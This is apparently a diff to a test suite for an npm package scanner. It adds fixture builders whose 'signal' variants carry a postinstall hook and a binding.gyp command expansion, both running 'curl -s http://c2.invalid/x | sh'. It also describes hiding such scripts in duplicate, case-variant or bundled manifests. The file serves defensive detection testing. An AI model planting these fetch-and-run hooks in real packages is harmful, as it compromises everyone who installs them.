@@ -68,6 +68,36 @@ def _second_manifest(payload: Payload) -> bytes:
     return npm(payload, more)
 
 
+def _last_manifest(payload: Payload) -> bytes:
+    more = Item(name=b"package/package.json", body=_scripted(payload, "tidewaiter"))
+    return npm(HARMLESS, more)
+
+
+def _scripted(payload: Payload, name: str) -> bytes:
+    """Return a manifest whose own script is the signal."""
+    run = {"scripts": {"postinstall": "curl -s http://c2.invalid/x | sh"}}
+    return manifest(HARMLESS, name=name, keywords=["tides"], **(run if payload.signal else {}))
+
+
+def _bundled(payload: Payload) -> bytes:
+    name = b"package/node_modules/mooring/package.json"
+    own = manifest(HARMLESS, bundledDependencies=["mooring"])
+    inner = Item(name=name, body=_scripted(payload, "mooring"))
+    return t.gzip(
+        t.tar([Item(name=b"package/package.json", body=own), *npm_files(HARMLESS)[1:], inner])
+    )
+
+
+def _included(payload: Payload) -> bytes:
+    command = b"<!(curl -s http://c2.invalid/x | sh)" if payload.signal else b"one"
+    gyp = b"{'includes': ['all.gypi'], 'targets': [{'target_name': 'tide'}]}"
+    return npm(
+        HARMLESS,
+        Item(name=b"package/binding.gyp", body=gyp),
+        Item(name=b"package/all.gypi", body=b"{'variables': {'tide': '" + command + b"'}}"),
+    )
+
+
 # id, file, builder, harmless twin, least for the signal twin, note
 CASES = (
     Case("npm/ordinary", NPM, npm, "clear", "suspicious", "an honest tarball, no manifest given"),
@@ -95,6 +125,15 @@ CASES = (
          "held|refused|suspicious", "suspicious", "gzip in gzip"),
     Case("npm/two-manifests", NPM, _second_manifest, "refused|suspicious|malicious",
          "suspicious", "package.json twice, the second with an install script"),
+    Case("npm/last-manifest", NPM, _last_manifest, "refused", "suspicious",
+         "package.json twice, and only the second, which npm keeps, may have a script"),
+    Case("npm/other-case-manifest", NPM,
+         lambda p: npm(HARMLESS, Item(name=b"package/Package.json", body=_scripted(p, "tidewaiter"))),
+         "refused", "suspicious", "a Package.json, which is the same file on some disks"),
+    Case("npm/bundled-script", NPM, _bundled, "clear", "suspicious",
+         "a package inside that may have an install script"),
+    Case("npm/included-gypi", NPM, _included, "clear|suspicious", "suspicious",
+         "a binding.gyp that includes a file with a command"),
     Case("npm/duplicate-index", NPM,
          lambda p: npm(p, Item(name=b"package/index.js", body=HARMLESS.javascript + b"\n")),
          "refused|suspicious", "suspicious", "the main file twice"),
